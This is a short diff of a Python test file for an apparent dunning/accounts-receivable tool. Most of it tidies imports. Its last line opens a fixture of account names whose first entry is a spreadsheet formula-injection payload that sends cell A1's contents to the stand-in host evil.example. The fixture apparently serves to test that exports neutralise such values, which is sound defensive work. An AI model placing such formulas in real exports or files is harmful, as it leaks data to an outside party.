@@ -26,8 +26,8 @@ from dunning_core.adapters.storage.sqlite import SqliteStore
 from dunning_core.service.portfolio import account_views, aging_by_currency
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
-import browser  # noqa: E402  (the DevTools driver next to this file)
-from test_cli import LAST, LEDGER, dunning, import_sample  # noqa: E402
+import browser
+from test_cli import LAST, dunning, import_sample
 
 NAMES = {
     "M-01": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
